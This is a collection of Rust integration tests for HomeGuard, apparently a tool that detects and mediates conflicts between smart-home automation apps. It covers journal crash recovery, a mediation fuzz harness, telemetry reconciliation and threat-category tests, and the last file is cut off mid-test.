    fn range(&mut self, lo: usize, hi: usize) -> usize {
        lo + (self.next() % (hi - lo) as u64) as usize
    }
}

/// Synthetic palette, as in `lifecycle_fuzz.rs`: the app name is
/// independent of the command so a command flip is an **upgrade** of the
/// same app, not a rename.
const SENSORS: [(&str, &str, &str); 3] = [
    ("capability.motionSensor", "motion", "active"),
    ("capability.contactSensor", "contact", "open"),
    ("capability.waterSensor", "water", "wet"),
];

const ACTUATORS: [(&str, &str, [&str; 2]); 3] = [
    ("capability.switch", "lamp", ["on", "off"]),
    ("capability.alarm", "siren", ["siren", "off"]),
    ("capability.lock", "door", ["lock", "unlock"]),
];

fn palette_name(sensor: usize, actuator: usize) -> String {
    format!("App{sensor}{actuator}")
}

fn palette_source(sensor: usize, actuator: usize, command: usize) -> String {
    let (s_cap, s_attr, s_val) = SENSORS[sensor];
    let (a_cap, a_title, commands) = ACTUATORS[actuator];
    let cmd = commands[command];
    let name = palette_name(sensor, actuator);
    format!(
        r#"
definition(name: "{name}")
input "t", "{s_cap}"
input "a", "{a_cap}", title: "{a_title}"
def installed() {{ subscribe(t, "{s_attr}.{s_val}", h) }}
def h(evt) {{ a.{cmd}() }}
"#
    )
}

fn journaled_fleet() -> (Fleet, Arc<Journal>, MemBackend) {
    let backend = MemBackend::new();
    let journal = Arc::new(Journal::open(Box::new(backend.clone())).unwrap());
    let fleet = Fleet::builder(RuleStore::shared()).shards(4).build();
    assert!(fleet.attach_journal(journal.clone()).unwrap());
    (fleet, journal, backend)
}

fn snapshot_text(fleet: &Fleet) -> String {
    fleet.snapshot().unwrap().to_text()
}

/// Installs like a user who accepts every verdict.
fn install_accepting(fleet: &Fleet, id: HomeId, source: &str, name: &str) {
    match fleet.install_app(id, source, name, None) {
        Ok(report) if !report.installed => {
            fleet.confirm_install(id, report).unwrap();
        }
        Ok(_) => {}
        Err(HgError::AlreadyInstalled(_)) => {}
        Err(e) => panic!("install {name}: {e}"),
    }
}

/// Runs a seeded churn script on a journaled fleet, returning the live
/// fleet, its journal handles, and the ground-truth snapshot at every
/// operation boundary (keyed by journal offset).
fn churn(seed: u64, steps: usize) -> (Fleet, Arc<Journal>, MemBackend, BTreeMap<u64, String>) {
    let (fleet, journal, backend) = journaled_fleet();
    let mut rng = Gen::new(seed);
    let mut boundaries = BTreeMap::new();
    boundaries.insert(journal.next_offset(), snapshot_text(&fleet));
    let mut homes: Vec<HomeId> = (0..3).map(|_| fleet.create_home().unwrap()).collect();
    boundaries.insert(journal.next_offset(), snapshot_text(&fleet));
    for step in 0..steps {
        let roll = rng.range(0, 100);
        let id = homes[rng.range(0, homes.len())];
        let (sensor, actuator, command) = (rng.range(0, 3), rng.range(0, 3), rng.range(0, 2));
        let name = palette_name(sensor, actuator);
        let source = palette_source(sensor, actuator, command);
        match roll {
            0..=9 => homes.push(fleet.create_home().unwrap()),
            10..=14 => homes.extend(fleet.create_homes(rng.range(1, 4)).unwrap()),
            15..=49 => install_accepting(&fleet, id, &source, &name),
            50..=59 => {
                let _ = fleet.uninstall_app(id, &name);
            }
            60..=69 => match fleet.upgrade_app(id, &source, &name, None) {
                Ok(report) if !report.installed => {
                    fleet.confirm_install(id, report).unwrap();
                }
                _ => {}
            },
            70..=74 => {
                if homes.len() > 1 {
                    let victim = homes.remove(rng.range(0, homes.len()));
                    fleet.remove_home(victim).unwrap();
                }
            }
            75..=81 => {
                let table = match rng.range(0, 3) {
                    0 => PolicyTable::block_all(),
                    1 => PolicyTable::uniform(HandlingPolicy::Defer { window_ms: 250 }),
                    _ => PolicyTable::default(),
                };
                fleet.set_handling_policy(id, table).unwrap();
            }
            82..=86 => {
                let info = ConfigInfo::new(name.clone())
                    .bind_device("t", &format!("{:032x}", rng.next()))
                    .bind_device("a", &format!("{:032x}", rng.next()));
                fleet.record_config(id, &info).unwrap();
            }
            87..=92 => {
                let group: Vec<HomeId> = homes.iter().take(3).copied().collect();
                for (_, outcome) in fleet.install_many(&group, &source, &name, None).unwrap() {
                    if let Ok(report) = outcome {
                        if !report.installed {
                            // Group installs leave dirty verdicts pending;
                            // that is itself a state worth crash-testing.
                        }
                    }
                }
            }
            93..=95 => {
                fleet.force_uninstall(&name);
            }
            _ => {
                let _ = fleet.propagate_upgrade(&source, &name);
            }
        }
        if step % 7 == 6 {
            fleet.checkpoint().unwrap();
        }
        boundaries.insert(journal.next_offset(), snapshot_text(&fleet));
    }
    (fleet, journal, backend, boundaries)
}

/// Crash the backing storage at every record boundary and recover; known
/// boundaries must come back bit-identical, unknown (mid-operation) ones
/// must still produce a consistent, snapshot-round-tripping fleet.
fn crash_everywhere(backend: &MemBackend, total: u64, boundaries: &BTreeMap<u64, String>) {
    for cut in 0..=total {
        let fork = backend.fork();
        // Every third crash leaves a half-written frame behind.
        let garbage: &[u8] = if cut % 3 == 0 {
            b"HGJ1\x99\x00\x00\x00torn"
        } else {
            b""
        };
        fork.truncate_to_records(cut, garbage);
        let journal = Arc::new(
            Journal::open(Box::new(fork)).unwrap_or_else(|e| panic!("open at cut {cut}: {e}")),
        );
        let checkpointed = journal.last_checkpoint_offset().unwrap_or(0);
        let recovered =
            Fleet::recover(journal).unwrap_or_else(|e| panic!("recover at cut {cut}: {e}"));
        // Records below an already-written checkpoint are superseded by it.
        let effective = cut.max(checkpointed);
        let text = snapshot_text(&recovered);
        match boundaries.get(&effective) {
            Some(expected) => assert_eq!(
                &text, expected,
                "cut {cut} (effective {effective}): recovered fleet diverges"
            ),
            None => {
                // Mid-operation boundary: no recorded ground truth, but the
                // recovered fleet must still be fully consistent.
                let reread =
                    Fleet::restore(hg_persist::FleetSnapshot::from_text(&text).unwrap()).unwrap();
                assert_eq!(snapshot_text(&reread), text, "cut {cut}: round-trip");
            }
        }
    }
}

/// Probe comparison between the live fleet and its full recovery: every
/// home answers a dry-run `check_install` identically (threats, chains,
/// effort counters all ride in the debug rendering) and mediation stats
/// agree.
fn assert_behaviorally_identical(live: &Fleet, recovered: &Fleet) {
    assert_eq!(snapshot_text(recovered), snapshot_text(live));
    assert_eq!(
        format!("{:?}", recovered.mediation_stats()),
        format!("{:?}", live.mediation_stats())
    );
    // Effort counters (pair-cache hits vs misses) depend on verdict-cache
    // warmth, which is deliberately NOT ground truth — zero them before
    // comparing, so the probe checks verdicts, rules, threats and chains.
    let canonical = |outcome: Result<hg_service::InstallReport, HgError>| match outcome {
        Ok(mut report) => {
            report.stats = Default::default();
            format!("Ok({report:?})")
        }
        Err(e) => format!("Err({e:?})"),
    };
    for id in live.home_ids() {
        for (sensor, actuator) in [(0, 0), (1, 2)] {
            let name = palette_name(sensor, actuator);
            let a = canonical(live.check_install(id, &name));
            let b = canonical(recovered.check_install(id, &name));
            assert_eq!(a, b, "probe {name} on {id} diverges");
        }
    }
}

#[test]
fn crash_at_every_record_boundary_recovers_exactly() {
    for seed in [11, 42] {
        let (live, journal, backend, boundaries) = churn(seed, 36);
        let total = journal.next_offset();
        assert!(total > 20, "script must journal a real workload");
        crash_everywhere(&backend, total, &boundaries);

        let full = Arc::new(Journal::open(Box::new(backend.fork())).unwrap());
        let recovered = Fleet::recover(full).unwrap();
        assert_behaviorally_identical(&live, &recovered);
    }
}

#[test]
fn compaction_preserves_recovery() {
    let (live, journal, backend, _) = churn(7, 24);
    live.checkpoint().unwrap();
    let stats = journal.compact().unwrap();
    // The baseline plus the mid-script delta checkpoints fold into a
    // single full document; segments only drop once rotation has split
    // the record stream, so segment drops are not asserted here.
    assert!(stats.checkpoints_folded >= 1, "chain had >1 checkpoint");
    assert_eq!(journal.checkpoint_count(), 1, "one surviving checkpoint");
    let reopened = Arc::new(Journal::open(Box::new(backend.fork())).unwrap());
    let recovered = Fleet::recover(reopened).unwrap();
    assert_behaviorally_identical(&live, &recovered);
}

#[test]
fn torn_tail_garbage_never_panics_the_open() {
    let (_live, journal, backend, _) = churn(3, 12);
    let total = journal.next_offset();
    for garbage in [
        b"\x00".as_slice(),
        b"HGJ1".as_slice(),
        b"HGJ1\xff\xff\xff\x7f....".as_slice(),
        b"complete nonsense that is much longer than a frame header".as_slice(),
    ] {
        let fork = backend.fork();
        fork.truncate_to_records(total, garbage);
        let reopened = Journal::open(Box::new(fork)).unwrap();
        assert_eq!(reopened.next_offset(), total, "garbage tail must truncate");
        Fleet::recover(Arc::new(reopened)).unwrap();
    }
}
