//! Shared helpers for HomeGuard's cross-crate integration tests.

#![forbid(unsafe_code)]

use hg_rules::rule::Rule;
use hg_symexec::{extract, ExtractorConfig};

/// Extracts an inline SmartApp, panicking on failure.
pub fn rules_of(source: &str, name: &str) -> Vec<Rule> {
    extract(source, name, &ExtractorConfig::extended())
        .unwrap_or_else(|e| panic!("{name}: {e}"))
        .rules
}
