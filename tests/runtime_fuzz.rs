//! Scenario-fuzz harness for the runtime mediation engine: randomized
//! homes and event schedules are driven through **paired simulations** —
//! one unmediated, one with the enforcer compiled from the scenario's own
//! install-time detection report — proving differentially that
//!
//! 1. the mediated run never exhibits a detected threat's interference
//!    signature (both members of the pair acting in the same run), and
//! 2. on threat-free homes the mediated and unmediated traces are
//!    **identical**, bit for bit: mediation perturbs nothing it was not
//!    asked to handle.
//!
//! Like the PR-1 properties suite, the generator is a seeded SplitMix64,
//! so every scenario reproduces from its seed.

use hg_capability::device_kind::DeviceKind;
use hg_detector::{Detector, Threat, Unification};
use hg_rules::constraint::Formula;
use hg_rules::rule::{Action, Condition, Rule, RuleId, Trigger};
use hg_rules::value::Value;
use hg_rules::varid::{DeviceRef, VarId};
use hg_runtime::{Enforcer, PolicyTable, SharedEnforcer};
use hg_sim::{Device, Home};
use std::collections::BTreeMap;

const SCENARIOS: u64 = 128;

/// SplitMix64, as in `tests/properties.rs`.
struct Gen {
    state: u64,
}

impl Gen {
    fn new(seed: u64) -> Gen {
        Gen {
            state: seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0xd1b5_4a32_d192_ed03,
        }
    }

    fn next(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn range(&mut self, lo: usize, hi: usize) -> usize {
        lo + (self.next() % (hi - lo) as u64) as usize
    }

    fn chance(&mut self, percent: usize) -> bool {
        self.range(0, 100) < percent
    }
}

/// The fixed device palette every generated home is furnished with.
/// `(id, capability, kind)`.
const SENSORS: [(&str, &str); 3] = [
    ("motion-1", "motionSensor"),
    ("contact-1", "contactSensor"),
    ("leak-1", "waterSensor"),
];

const ACTUATORS: [(&str, &str, DeviceKind); 6] = [
    ("lamp-1", "switch", DeviceKind::Light),
    ("lamp-2", "switch", DeviceKind::Light),
    ("heater-1", "switch", DeviceKind::Heater),
    ("fan-1", "switch", DeviceKind::Fan),
    ("siren-1", "alarm", DeviceKind::Siren),
    ("lock-1", "lock", DeviceKind::Lock),
];

/// Observable trigger sources: `(device, capability, attribute, values)`.
const TRIGGER_SOURCES: [(&str, &str, &str, [&str; 2]); 7] = [
    ("motion-1", "motionSensor", "motion", ["active", "inactive"]),
    ("contact-1", "contactSensor", "contact", ["open", "closed"]),
    ("leak-1", "waterSensor", "water", ["wet", "dry"]),
    ("lamp-1", "switch", "switch", ["on", "off"]),
    ("lamp-2", "switch", "switch", ["on", "off"]),
    ("heater-1", "switch", "switch", ["on", "off"]),
    ("fan-1", "switch", "switch", ["on", "off"]),
];

/// Commands per actuator palette slot.
const COMMANDS: [[&str; 2]; 6] = [
    ["on", "off"],
    ["on", "off"],
    ["on", "off"],
    ["on", "off"],
    ["siren", "off"],
    ["lock", "unlock"],
];

const MODES: [&str; 3] = ["Home", "Away", "Night"];

/// One generated scenario: rules (with slot bindings), the binding map,
/// and an external event schedule.
struct Scenario {
    rules: Vec<Rule>,
    bindings: BTreeMap<(String, String), String>,
    schedule: Vec<Event>,
}

enum Event {
    Stimulate(&'static str, &'static str, &'static str),
    SetMode(&'static str),
}

fn kind_of(device: &str) -> DeviceKind {
    ACTUATORS
        .iter()
        .find(|(id, _, _)| *id == device)
        .map(|(_, _, k)| *k)
        .unwrap_or(DeviceKind::Unknown)
}

fn generate(seed: u64) -> Scenario {
    let mut g = Gen::new(seed);
    let mut rules = Vec::new();
    let mut bindings = BTreeMap::new();
    let apps = g.range(2, 7);
    for i in 0..apps {
        let app = format!("App{i}");
        let (t_dev, t_cap, t_attr, t_values) = TRIGGER_SOURCES[g.range(0, TRIGGER_SOURCES.len())];
        let a_slot = g.range(0, ACTUATORS.len());
        let (a_dev, a_cap, a_kind) = ACTUATORS[a_slot];
        let command = COMMANDS[a_slot][g.range(0, 2)];
        let trigger_ref = DeviceRef::Unbound {
            app: app.clone(),
            input: "t".into(),
            capability: t_cap.into(),
            kind: kind_of(t_dev),
        };
        let action_ref = DeviceRef::Unbound {
            app: app.clone(),
            input: "a".into(),
            capability: a_cap.into(),
            kind: a_kind,
        };
        bindings.insert((app.clone(), "t".into()), t_dev.to_string());
        bindings.insert((app.clone(), "a".into()), a_dev.to_string());
        let condition = if g.chance(30) {
            Condition {
                data_constraints: vec![],
                predicate: Formula::var_eq(VarId::Mode, Value::sym(MODES[g.range(0, 3)])),
            }
        } else {
            Condition::always()
        };
        let mut action = Action::device(action_ref, command);
        if g.chance(20) {
            action = action.after(30); // a delayed command (races via delay)
        }
        rules.push(Rule {
            id: RuleId::new(app, 0),
            trigger: Trigger::DeviceEvent {
                subject: trigger_ref.clone(),
                attribute: t_attr.into(),
                constraint: Some(Formula::var_eq(
                    VarId::device_attr(trigger_ref, t_attr),
                    Value::sym(t_values[g.range(0, 2)]),
                )),
            },
            condition,
            actions: vec![action],
        });
    }
    let mut schedule = Vec::new();
    // Every sensor reports its "active" value at least once, so rule pairs
    // sharing a trigger actually collide; extra random events (both sensor
    // polarities, mode flips) fill the run out.
    for &(dev, _, attr, values) in TRIGGER_SOURCES.iter().take(3) {
        schedule.push(Event::Stimulate(dev, attr, values[0]));
    }
    for _ in 0..g.range(3, 9) {
        if g.chance(15) {
            schedule.push(Event::SetMode(MODES[g.range(0, 3)]));
        } else {
            let (dev, _, attr, values) = TRIGGER_SOURCES[g.range(0, 3)];
            schedule.push(Event::Stimulate(dev, attr, values[g.range(0, 2)]));
        }
    }
    Scenario {
        rules,
        bindings,
        schedule,
    }
}

/// Builds the palette home and installs the scenario's unified rules.
fn build_home(seed: u64, scenario: &Scenario, unification: &Unification) -> Home {
    let mut home = Home::new(seed);
    for (id, cap) in SENSORS {
        home.add_device(Device::new(id, id, cap, DeviceKind::Unknown));
    }
    for (id, cap, kind) in ACTUATORS {
        home.add_device(Device::new(id, id, cap, kind));
    }
    for rule in &scenario.rules {
        home.install_rule(unification.unify_rule(rule));
    }
    home
}

fn drive(home: &mut Home, schedule: &[Event]) {
    for event in schedule {
        match event {
            Event::Stimulate(dev, attr, value) => home.stimulate(dev, attr, Value::sym(*value)),
            Event::SetMode(mode) => home.set_mode(mode),
        }
    }
}

/// Detected threats of a scenario, under its binding unification.
fn detect(scenario: &Scenario, unification: &Unification) -> Vec<Threat> {
    let detector = Detector {
        unification: unification.clone(),
        ..Detector::default()
    };
    detector.detect_all(&scenario.rules).0
}

#[test]
fn mediation_is_differentially_sound_over_seeded_scenarios() {
    let mut with_threats = 0usize;
    let mut threat_free = 0usize;
    let mut manifested = 0usize;
    for seed in 0..SCENARIOS {
        let scenario = generate(seed);
        let unification = Unification::Bindings(scenario.bindings.clone());
        let threats = detect(&scenario, &unification);

        // Paired simulations: identical seed, identical schedule.
        let mut plain = build_home(seed, &scenario, &unification);
        drive(&mut plain, &scenario.schedule);

        let enforcer = SharedEnforcer::new(Enforcer::from_threats(
            &threats,
            &scenario.rules,
            &unification,
            &PolicyTable::block_all(),
        ));
        let mut mediated = build_home(seed, &scenario, &unification);
        mediated.set_mediator(enforcer.mediator());
        drive(&mut mediated, &scenario.schedule);

        if threats.is_empty() {
            threat_free += 1;
            assert_eq!(
                plain.trace, mediated.trace,
                "seed {seed}: a threat-free home must be untouched by mediation"
            );
            assert_eq!(
                enforcer.stats().mediated,
                0,
                "seed {seed}: nothing to mediate"
            );
            continue;
        }

        with_threats += 1;
        for threat in &threats {
            let (src, dst) = (threat.source.to_string(), threat.target.to_string());
            // The interference signature: both members of a detected pair
            // acting in the same run. Under the strict table the enforced
            // run must never exhibit it...
            assert!(
                !(mediated.fired(&src) && mediated.fired(&dst)),
                "seed {seed}: {threat} manifested under mediation"
            );
            // ...while the unmediated run is free to (and often does).
            if plain.fired(&src) && plain.fired(&dst) {
                manifested += 1;
                assert!(
                    !enforcer.journal().is_empty(),
                    "seed {seed}: {threat} manifested unmediated, so the \
                     enforcer must have decided something"
                );
            }
        }
    }
    // The property must not hold vacuously: the generator has to produce
    // threat-laden and threat-free scenarios, and interferences that
    // actually manifest dynamically.
    assert!(
        with_threats >= 20,
        "only {with_threats} threat-laden scenarios"
    );
    assert!(
        threat_free >= 10,
        "only {threat_free} threat-free scenarios"
    );
    assert!(
        manifested >= 10,
        "only {manifested} manifested interferences"
    );
}

#[test]
fn notify_all_mediation_never_changes_any_trace() {
    // The weakest table journals but never intervenes: every scenario —
    // threat-laden or not — must replay identically.
    for seed in 0..32 {
        let scenario = generate(seed);
        let unification = Unification::Bindings(scenario.bindings.clone());
        let threats = detect(&scenario, &unification);

        let mut plain = build_home(seed, &scenario, &unification);
        drive(&mut plain, &scenario.schedule);

        let enforcer = SharedEnforcer::new(Enforcer::from_threats(
            &threats,
            &scenario.rules,
            &unification,
            &PolicyTable::notify_all(),
        ));
        let mut mediated = build_home(seed, &scenario, &unification);
        mediated.set_mediator(enforcer.mediator());
        drive(&mut mediated, &scenario.schedule);

        assert_eq!(
            plain.trace, mediated.trace,
            "seed {seed}: notify-only mediation must be a pure observer"
        );
        assert_eq!(enforcer.stats().mediated, 0);
    }
}
