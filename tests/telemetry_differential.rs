//! Telemetry differential: attaching the fleet event bus must be a
//! **pure observation** — every report, every persisted byte, identical
//! with and without it — while the metrics registry's totals reconcile
//! *exactly* with the events the bus carried.
//!
//! Two fleets over separate stores run the same lifecycle churn: one
//! silent, one wired to a live [`TelemetryHub`]. The wired fleet's
//! observable outputs (install/uninstall reports, rollout merges, the
//! snapshot document) must be bit-identical to the silent fleet's; the
//! hub's counters must then equal a direct recount of the bus events.
//! Finally the aggregate envelope rides a snapshot through text and
//! restores warm into a fresh registry with nothing lost.

use hg_persist::FleetSnapshot;
use hg_service::{
    DegradedPolicy, FaultBackend, FaultKind, FaultPlan, Fleet, HomeId, Journal, JournalConfig,
    MemBackend, RuleStore, TelemetryEvent,
};
use hg_telemetry::{MetricsRegistry, TelemetryHub};
use homeguard_core::HgError;
use std::sync::Arc;
use std::time::Duration;

const ON_APP: &str = r#"
definition(name: "OnApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.on() }
"#;

const OFF_APP: &str = r#"
definition(name: "OffApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.off() }
"#;

/// One fleet's full observable output for the shared churn script: every
/// report rendered to a canonical line, in execution order.
fn churn(fleet: &Fleet) -> Vec<String> {
    let mut log = Vec::new();
    let ids: Vec<HomeId> = (0..6).map(|_| fleet.create_home().unwrap()).collect();
    for id in &ids {
        let report = fleet.install_app(*id, ON_APP, "OnApp", None).unwrap();
        log.push(render_install(&report));
    }
    for id in ids.iter().take(3) {
        let report = fleet
            .install_app_forced(*id, OFF_APP, "OffApp", None)
            .unwrap();
        log.push(render_install(&report));
    }
    let gone = fleet.uninstall_app(ids[0], "OffApp").unwrap();
    log.push(format!(
        "uninstall app={} rules={} retired={}",
        gone.app,
        gone.removed_rules.len(),
        gone.retired_threats
    ));
    let rollout = fleet
        .propagate_upgrade(&format!("{ON_APP}// v2\n"), "OnApp")
        .unwrap();
    log.push(format!(
        "rollout upgraded={:?} pending={:?} skipped={} failed={}",
        rollout
            .upgraded
            .iter()
            .map(|id| id.raw())
            .collect::<Vec<_>>(),
        rollout
            .pending
            .iter()
            .map(|(id, _)| id.raw())
            .collect::<Vec<_>>(),
        rollout.skipped,
        rollout.failed.len()
    ));
    log
}

fn render_install(report: &homeguard_core::InstallReport) -> String {
    let mut threats: Vec<String> = report
        .threats
        .iter()
        .map(|t| format!("{}:{}->{}", t.kind.acronym(), t.source.app, t.target.app))
        .collect();
    threats.sort();
    format!(
        "install app={} installed={} threats={:?} pairs={} solves={} hits={} misses={} lowered={} fallbacks={}",
        report.app,
        report.installed,
        threats,
        report.stats.pairs,
        report.stats.solves,
        report.stats.cache_hits,
        report.stats.cache_misses,
        report.stats.lowered_hits,
        report.stats.solver_fallbacks
    )
}

#[test]
fn attached_bus_changes_no_report_and_no_persisted_byte() {
    let silent = Fleet::builder(RuleStore::shared()).shards(4).build();
    let wired = Fleet::builder(RuleStore::shared()).shards(4).build();
    let hub = TelemetryHub::start();
    assert!(wired.attach_telemetry(hub.bus().clone()));

    let silent_log = churn(&silent);
    let wired_log = churn(&wired);
    assert_eq!(
        silent_log, wired_log,
        "every report must be identical with the bus attached"
    );

    // The persisted documents are bit-identical: a fleet-level snapshot
    // never embeds observability state (the API layer injects the
    // envelope separately).
    let silent_doc = silent.snapshot().unwrap().to_text();
    let wired_doc = wired.snapshot().unwrap().to_text();
    assert_eq!(
        silent_doc, wired_doc,
        "snapshot bytes must not depend on telemetry"
    );

    // Exactness: once the collector has consumed everything published,
    // the registry's totals equal a direct recount of the bus events.
    assert!(hub.sync(Duration::from_secs(5)), "collector must catch up");
    assert_eq!(hub.bus().dropped_events(), 0, "churn fits bus retention");
    let mut events = Vec::new();
    hub.bus().drain_since(0, &mut events);
    let count =
        |pred: fn(&TelemetryEvent) -> bool| events.iter().filter(|(_, e)| pred(e)).count() as u64;
    let registry = hub.registry();
    let installs = count(|e| matches!(e, TelemetryEvent::InstallCompleted { .. }));
    let threats = count(|e| matches!(e, TelemetryEvent::ThreatDetected { .. }));
    assert!(installs >= 9, "6 installs + 3 forced at minimum");
    assert!(threats > 0, "OffApp conflicts must surface");
    assert_eq!(registry.counter("installs_total"), installs);
    assert_eq!(registry.counter("threats_total"), threats);
    assert_eq!(
        registry.counter("homes_created_total"),
        count(|e| matches!(e, TelemetryEvent::HomeCreated { .. }))
    );
    assert_eq!(registry.counter("homes_created_total"), 6);
    assert_eq!(
        registry.counter("uninstalls_total"),
        count(|e| matches!(e, TelemetryEvent::UninstallCompleted { .. }))
    );
    assert_eq!(registry.counter("uninstalls_total"), 1);
    assert_eq!(
        registry.counter("sweep_shards_total"),
        count(|e| matches!(e, TelemetryEvent::SweepShardDone { .. }))
    );
    assert_eq!(registry.counter("sweep_shards_total"), 4);
    assert_eq!(registry.counter("snapshots_total"), 1);
    assert_eq!(
        registry.counter("events_consumed_total"),
        events.len() as u64
    );

    // The pair-check tier counters reconcile exactly too: the registry's
    // totals equal the sum of the per-install payloads the bus carried,
    // and the lowered tier really answered checks during the churn (the
    // AR pairs here are simple attribute comparisons, squarely inside
    // the lowered fragment).
    let sum = |f: fn(&TelemetryEvent) -> u64| events.iter().map(|(_, e)| f(e)).sum::<u64>();
    let lowered = sum(|e| match e {
        TelemetryEvent::InstallCompleted { lowered_hits, .. } => *lowered_hits,
        _ => 0,
    });
    let fallbacks = sum(|e| match e {
        TelemetryEvent::InstallCompleted {
            solver_fallbacks, ..
        } => *solver_fallbacks,
        _ => 0,
    });
    assert_eq!(registry.counter("lowered_hits_total"), lowered);
    assert_eq!(registry.counter("solver_fallbacks_total"), fallbacks);
    assert!(lowered > 0, "churn pairs must hit the lowered tier");

    // The silent fleet's mediation accessors work without any bus.
    assert_eq!(silent.mediation_stats().events, 0);
    hub.stop();
}

/// The fault-policy lifecycle publishes exactly what the registry
/// counts: one scripted transient and one torn write surface as
/// [`TelemetryEvent::IoRetry`] events whose `attempts` sum to
/// `io_retries_total`; the permanent fault's quarantine and the
/// subsequent heal appear once each. An exact reconciliation — not
/// `>=` — so a double-published or swallowed event fails the build.
#[test]
fn fault_policy_events_reconcile_exactly_with_registry_totals() {
    let mem = MemBackend::new();
    let fault = FaultBackend::new(mem.clone());
    let journal = Arc::new(
        Journal::open_with(
            Box::new(fault.clone()),
            JournalConfig {
                max_io_attempts: 3,
                backoff_micros: 0,
                degraded: DegradedPolicy::RefuseWrites,
                ..JournalConfig::default()
            },
        )
        .unwrap(),
    );
    let hub = TelemetryHub::start();
    journal.set_telemetry(hub.bus().clone());
    let fleet = Fleet::builder(RuleStore::shared()).shards(2).build();
    assert!(fleet.attach_telemetry(hub.bus().clone()));
    assert!(fleet.attach_journal(journal.clone()).unwrap());
    fleet.create_home().unwrap();

    // One transient and one torn write: both absorbed by bounded retry.
    fault.arm(FaultPlan::new().at(fault.ops(), FaultKind::Transient));
    fleet.create_home().unwrap();
    fault.arm(FaultPlan::new().at(fault.ops(), FaultKind::ShortWrite));
    fleet.create_home().unwrap();
    assert!(!journal.is_quarantined(), "retries must absorb transients");

    // A permanent fault quarantines; a refused write adds no event noise.
    fault.arm(FaultPlan::new().at(fault.ops(), FaultKind::Permanent));
    assert!(matches!(fleet.create_home(), Err(HgError::Journal(_))));
    assert!(journal.is_quarantined());
    assert!(matches!(fleet.create_home(), Err(HgError::Degraded(_))));

    // Heal and prove the journal is live again.
    fault.disarm();
    fleet.heal_journal().unwrap();
    fleet.create_home().unwrap();

    assert!(hub.sync(Duration::from_secs(5)), "collector must catch up");
    assert_eq!(hub.bus().dropped_events(), 0, "churn fits bus retention");
    let mut events = Vec::new();
    hub.bus().drain_since(0, &mut events);
    let registry = hub.registry();

    let retry_events = events
        .iter()
        .filter(|(_, e)| matches!(e, TelemetryEvent::IoRetry { .. }))
        .count() as u64;
    let retries: u64 = events
        .iter()
        .map(|(_, e)| match e {
            TelemetryEvent::IoRetry { attempts, .. } => *attempts,
            _ => 0,
        })
        .sum();
    let degraded = events
        .iter()
        .filter(|(_, e)| matches!(e, TelemetryEvent::JournalDegraded { .. }))
        .count() as u64;
    let healed = events
        .iter()
        .filter(|(_, e)| matches!(e, TelemetryEvent::JournalHealed { .. }))
        .count() as u64;

    assert!(retry_events >= 2, "transient + torn write both retried");
    assert!(retries >= retry_events, "each event carries ≥1 attempt");
    assert_eq!(degraded, 1, "exactly one quarantine transition");
    assert_eq!(healed, 1, "exactly one heal transition");
    assert_eq!(registry.counter("io_retry_events_total"), retry_events);
    assert_eq!(registry.counter("io_retries_total"), retries);
    assert_eq!(registry.counter("journal_degraded_total"), degraded);
    assert_eq!(registry.counter("journal_healed_total"), healed);
    hub.stop();
}

#[test]
fn telemetry_envelope_rides_snapshots_and_restores_warm() {
    let fleet = Fleet::builder(RuleStore::shared()).shards(2).build();
    let hub = TelemetryHub::start();
    assert!(fleet.attach_telemetry(hub.bus().clone()));
    churn(&fleet);

    let mut snapshot = fleet.snapshot().unwrap();
    assert!(
        snapshot.telemetry.is_none(),
        "the fleet itself never embeds the envelope"
    );
    assert!(hub.sync(Duration::from_secs(5)));
    let envelope = hub.registry().export_state();
    snapshot.telemetry = Some(envelope.clone());

    // Through text and back: the envelope survives verbatim…
    let text = snapshot.to_text();
    let revived = FleetSnapshot::from_text(&text).unwrap();
    let carried = revived.telemetry.clone().expect("envelope must ride");
    assert_eq!(carried.to_text(), envelope.to_text());

    // …and a fresh registry absorbing it reproduces every aggregate.
    let fresh = MetricsRegistry::new();
    fresh.absorb_state(&carried).unwrap();
    assert_eq!(
        fresh.export_state().to_text(),
        envelope.to_text(),
        "snapshot→restore must preserve every counter, histogram and row"
    );
    assert_eq!(
        fresh.counter("installs_total"),
        hub.registry().counter("installs_total")
    );

    // The fleet side restores independently of the envelope.
    let back = Fleet::restore(revived).unwrap();
    assert_eq!(back.len(), fleet.len());

    // Stripping the envelope reproduces the pre-telemetry document
    // exactly — old readers and writers stay byte-compatible.
    let mut stripped = FleetSnapshot::from_text(&text).unwrap();
    stripped.telemetry = None;
    assert_eq!(stripped.to_text(), fleet.snapshot().unwrap().to_text());
    hub.stop();
}
