//! E9 — Table I categorization: one end-to-end test per threat category,
//! each built as a minimal rule pair matching the table's pattern exactly,
//! plus a negative control per category.

use hg_detector::{Detector, ThreatKind};
use homeguard_integration_tests::rules_of;

fn detect(a: &str, an: &str, b: &str, bn: &str) -> Vec<ThreatKind> {
    let ra = rules_of(a, an);
    let rb = rules_of(b, bn);
    let det = Detector::store_wide();
    let mut kinds = Vec::new();
    for x in &ra {
        for y in &rb {
            let (t, _) = det.detect_pair(x, y);
            kinds.extend(t.iter().map(|t| t.kind));
        }
    }
    kinds.sort_unstable();
    kinds.dedup();
    kinds
}

#[test]
fn table1_actuator_race() {
    // T1 = T2, C1 ∩ C2 ≠ ∅, A1 = ¬A2.
    let kinds = detect(
        r#"
input "d", "capability.contactSensor"
input "w", "capability.switch", title: "window opener"
def installed() { subscribe(d, "contact.open", h) }
def h(evt) { w.on() }
"#,
        "RaceA",
        r#"
input "d", "capability.contactSensor"
input "w", "capability.switch", title: "window opener"
def installed() { subscribe(d, "contact.open", h) }
def h(evt) { w.off() }
"#,
        "RaceB",
    );
    assert!(kinds.contains(&ThreatKind::ActuatorRace), "{kinds:?}");
}

#[test]
fn table1_goal_conflict() {
    // Different actuators, contradictory goals: G(A1) = ¬G(A2).
    let kinds = detect(
        r#"
input "p", "capability.presenceSensor"
input "heater", "capability.switch", title: "space heater"
def installed() { subscribe(p, "presence.present", h) }
def h(evt) { heater.on() }
"#,
        "GoalA",
        r#"
